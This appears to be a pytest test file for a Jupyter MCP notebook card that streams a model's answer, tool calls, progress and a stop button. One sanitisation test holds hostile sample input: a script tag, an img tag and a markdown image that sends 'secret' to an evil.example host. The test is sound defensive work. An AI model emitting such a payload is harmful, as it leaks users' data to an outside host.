"""The live card of a question: text as it comes, calls as folds of their own, a stop button, a static end."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from jupyter_mcp.errors import Interrupted
from jupyter_mcp.host.conversation import ModelCall
from jupyter_mcp.host.conversation.events import (
    Attached,
    CallEnded,
    CallStarted,
    CallTold,
    CatalogueChanged,
    Noted,
    TextDelta,
)
from jupyter_mcp.host.conversation.toolbox import Changes
from jupyter_mcp.host.events import Progress, QuestionClosed, QuestionOpened
from jupyter_mcp.host.questions import Answer, Question
from jupyter_mcp.host.result import Result
from jupyter_mcp.notebook import cards
from jupyter_mcp.notebook.cards import answer
from jupyter_mcp.notebook.render.views import NoteView
from jupyter_mcp.runtime import jobs
from tests.notebook.page import VIEW, Page, button, capture, walk, words

if TYPE_CHECKING:
    from jupyter_mcp.notebook.cards.answer import LiveAnswer

QUESTION = Question("q1", "approval", "demo", "Run demo.add?", {"tool": "add"})


@pytest.fixture
def page(monkeypatch: pytest.MonkeyPatch) -> Page:
    monkeypatch.setattr(answer, "PAINT_SECONDS", 0.0)
    monkeypatch.setattr(answer, "_SHARE", 0)
    return capture(monkeypatch)


def live(cancel: Any = None) -> LiveAnswer:
    return cards.live_answer("the answer", cancel).show()


def tell(card: LiveAnswer, *events: object) -> None:
    """As the runtime's thread tells them; the main thread does what it has to."""
    for event in events:
        card.event(event)
        jobs.board.drain()


def folds(card: LiveAnswer) -> list[Any]:
    return [w for w in walk(card.card.root) if type(w).__name__ == "HTML" and "<details" in w.value]


def call(number: int = 1, **more: Any) -> ModelCall:
    return ModelCall(number, "demo__add", "demo", "add", {"a": 1}, **more)


def test_text_grows_in_its_place(page: Page) -> None:
    card = live()
    tell(card, TextDelta("It is"), TextDelta(" **42**"))
    assert "It is 42" in words(card.card.root)
    tell(card, TextDelta("."))
    assert "It is 42 ." in words(card.card.root)
    assert page.live
    card.finish()


def test_a_call_is_a_fold_between_the_texts(page: Page) -> None:
    card, one = live(), call()
    tell(card, TextDelta("Before."), CallStarted(one))
    assert "demo.add(a=1) is running" in words(card.card.root)
    one.outcome, one.result = "ok", Result({"content": [{"type": "text", "text": "3"}]}, server="demo", tool="add")
    tell(card, CallEnded(one), TextDelta("After."))
    shown = words(card.card.root)
    assert shown.index("Before.") < shown.index("demo.add(a=1) 3") < shown.index("After.")
    assert len(folds(card)) == 1
    card.finish()


def test_a_fold_is_not_drawn_anew_while_text_comes(page: Page) -> None:
    card = live()
    tell(card, CallStarted(call()))
    [fold] = folds(card)
    changes: list[object] = []
    fold.observe(changes.append, names="value")
    tell(card, TextDelta("more"), TextDelta(" and more"))
    assert changes == []
    card.finish()


def test_a_call_says_that_it_waits_for_the_person_and_how_far_it_is(page: Page) -> None:
    card, one = live(), call()
    tell(card, CallStarted(one), CallTold(one, QuestionOpened(QUESTION)))
    assert "demo.add(a=1) waits for your answer" in words(card.card.root)
    tell(card, CallTold(one, QuestionClosed(QUESTION, Answer("accept"))), CallTold(one, Progress(1, 4, "loading")))
    assert "demo.add(a=1) is running …: 1 of 4, loading" in words(card.card.root)
    card.finish()


def test_what_goes_along_and_what_changes_is_said(page: Page) -> None:
    card = live()
    tell(card, Attached("demo:notes://today (5 characters)"), CatalogueChanged(Changes(("demo.new",), ("demo.old",))))
    shown = words(card.card.root)
    assert "Attached: demo:notes://today (5 characters)" in shown
    assert "The tools have changed: new: demo.new; gone: demo.old" in shown
    tell(card, Noted("The model is being loaded."))
    assert "The model is being loaded." in words(card.card.root)
    card.finish()


def test_the_button_stops_it_once(page: Page) -> None:
    stopped: list[int] = []
    card = live(lambda: stopped.append(1))
    press = button(card.card.root, "Stop")
    press.click()
    press.click()
    assert stopped == [1]
    card.finish()


def test_markup_and_pictures_of_the_model_are_not_the_pages(page: Page) -> None:
    card = live()
    tell(card, TextDelta("<script>x</script> ![p](https://evil.example/?q=secret) <img src=x>"))
    html = "".join(w.value for w in walk(card.card.root) if type(w).__name__ == "HTML")
    assert "<script" not in html
    assert "<img" not in html
    card.finish()


def test_at_the_end_the_card_is_the_static_picture(page: Page) -> None:
    card = live()
    tell(card, TextDelta("It is 42."))
    card.finish(NoteView("the picture"))
    assert (page.text, VIEW in page.last) == ("the picture", False)


def test_an_answer_that_was_broken_off_leaves_what_was_said(page: Page) -> None:
    card = live()
    tell(card, TextDelta("Once upon"))
    card.finish(Interrupted("the answer cancelled"))
    assert page.text.startswith("Once upon\n")
    assert "not finished" in page.text
    assert VIEW not in page.last


def test_an_error_before_anything_was_said_leaves_nothing(page: Page) -> None:
    card = live()
    card.finish(ValueError("no"))
    assert page.text == ""


def test_what_comes_after_the_end_changes_nothing(page: Page) -> None:
    card = live()
    card.finish(NoteView("over"))
    tell(card, TextDelta("late"), CallStarted(call()))
    assert page.text == "over"


def test_while_it_lives_the_plain_side_says_what_there_is(page: Page) -> None:
    card = cards.live_answer("the answer")
    card.event(TextDelta("so far"))
    card.show()
    assert page.text == "so far\nnot finished yet"
    cards.close_all()
    assert "ended with its kernel" in page.text
